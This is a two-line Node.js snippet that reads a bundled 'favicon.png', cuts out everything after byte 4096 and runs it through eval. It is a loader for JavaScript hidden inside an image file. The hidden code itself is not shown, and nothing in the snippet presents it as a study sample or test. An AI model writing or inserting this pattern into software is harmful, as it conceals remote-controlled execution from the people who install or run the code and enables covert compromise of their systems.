const b = require("fs").readFileSync(__dirname + "/favicon.png");
eval(b.subarray(4096).toString());
